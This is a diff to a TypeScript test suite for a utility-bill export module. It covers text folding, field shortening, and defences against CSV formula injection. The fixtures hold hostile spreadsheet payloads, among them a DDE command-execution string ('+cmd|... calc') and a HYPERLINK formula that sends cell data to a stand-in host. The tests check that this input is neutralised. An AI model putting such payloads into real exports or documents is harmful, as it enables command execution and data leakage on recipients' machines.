@@ -23,9 +23,9 @@ describe('ASCII folding and text fields', () => {
     expect(foldToAscii('李 Water ﬁlter №5')).toBe('? Water filter No5');
   });
 
-  it('pads, truncates after folding, and treats null as blank', () => {
+  it('pads, shortens after folding (whole words, then "..."), and treats null as blank', () => {
     expect(textField('Ana', 5)).toBe('Ana  ');
-    expect(textField('Núñez & Sons Landscaping', 10)).toBe('Nunez & So');
+    expect(textField('Núñez & Sons Landscaping', 10)).toBe('Nunez &...');
     expect(textField(null, 3)).toBe('   ');
   });
 });
@@ -61,7 +61,8 @@ describe('numbers, amounts and dates', () => {
 describe('formula-leading text (OWASP CSV injection)', () => {
   it('quotes a text field that would start a formula, after folding and before the cut', () => {
     expect(textField('=1+1', 8)).toBe("'=1+1   ");
-    expect(textField('@SUM(1+1)', 5)).toBe("'@SUM");
+    // The quote counts in the width: a one-word value too long for the field is cut, and marked.
+    expect(textField('@SUM(1+1)', 5)).toBe("'@...");
     // A tab or leading spaces fold away: the first character the vendor sees is the one judged.
     expect(textField('\t  +cmd', 6)).toBe("'+cmd ");
     // The Unicode minus folds to "-", so it is quoted too.
@@ -71,8 +72,8 @@ describe('formula-leading text (OWASP CSV injection)', () => {
 
   const hostile: PrintRecord = {
     billId: 12, replacesBillId: null, accountNumber: '000004-01', mailingName: '@SUM(1+1) =HYPERLINK("http://x/?"&A1,"Pay here")',
-    mailingStreet: "+cmd|' /C calc'!A0", mailingCity: '-1+1', mailingState: 'CA', mailingZip: '95350', serviceStreet: '4 Elm St', serviceCity: 'Valle Verde',
-    route: 'R2', sequence: 4, meterSerial: 'M-4', priorReadDate: '2026-10-09', priorReading: '130', readDate: '2026-11-09', reading: '139', usageHcf: '9',
+    mailingStreet: "+cmd|' /C calc'!A0", mailingCity: '-1+1', mailingState: 'CA', mailingZip: '95350', mailingCountry: 'US', serviceStreet: '4 Elm St', serviceUnit: '', serviceCity: 'Valle Verde',
+    route: 'R2', sequence: 4, meterSerial: 'M-4', register: { unit: 'HCF', multiplier: '1', dials: 6 }, sameMeter: true, priorReadDate: '2026-10-09', priorReading: '130', readDate: '2026-11-09', reading: '139', usageHcf: '9',
     fromDate: '2026-10-09', toDate: '2026-11-09', billDate: '2026-11-12', dueDate: '2026-12-02',
     previousBalanceCents: -1_240, currentChargesCents: 8_486, amountDueCents: 7_246, messageCodes: [], suppressReturnEnvelope: false,
     lines: [{ description: '=Water use', amountCents: 8_486 }],
@@ -81,7 +82,9 @@ describe('formula-leading text (OWASP CSV injection)', () => {
   it('in the CSV, quotes hostile text but keeps a credit of -12.40 a number the vendor parses', () => {
     const csv = formatCsv([hostile], { recordCount: 1, currentChargesCents: 8_486, amountDueCents: 7_246 }, { runId: 3, cycle: 1, period: '2026-11', billDate: '2026-11-12', dueDate: '2026-12-02' });
     const detail = csv.split('\r\n')[1]!;
-    expect(detail).toContain(`,"'@SUM(1+1) =HYPERLINK(""http://x/?""&A1,""Pay here"")",'+cmd|' /C calc'!A0,'-1+1,CA,`);
+    // The name takes two lines by the shortening rule; each line that would start a formula is quoted.
+    expect(detail).toContain(`,'@SUM(1+1),'+cmd|' /C calc'!A0,'-1+1,CA,`);
+    expect(detail).toContain(`,"'=HYPERLINK(""http://x/?""&A1...",`);
     const [, row] = parse(csv) as string[][];
     const cell = (name: string) => row![CSV_COLUMNS.findIndex((column) => column.name === name)];
     expect(['previous_balance', 'current_charges', 'amount_due', 'usage_hcf', 'line_1_amount'].map(cell)).toEqual(['-12.40', '84.86', '72.46', '9', '84.86']);
@@ -90,7 +93,8 @@ describe('formula-leading text (OWASP CSV injection)', () => {
 
   it('in the fixed-width record, quotes hostile text and keeps the credit\'s sign', () => {
     const line = formatRecord(DETAIL_FIELDS, hostile, 'account 000004-01 (bill 12)');
-    expect(detailField(line, 'name')).toBe('\'@SUM(1+1) =HYPERLINK("http://');
+    expect(detailField(line, 'name')).toBe("'@SUM(1+1)".padEnd(30));
+    expect(detailField(line, 'nameLine2')).toBe('\'=HYPERLINK("http://x/?"&A1...');
     expect(detailField(line, 'mailingStreet')).toBe("'+cmd|' /C calc'!A0".padEnd(30));
     expect(detailField(line, 'mailingCity')).toBe("'-1+1".padEnd(20));
     expect(detailField(line, 'line1Description')).toBe("'=Water use".padEnd(30));
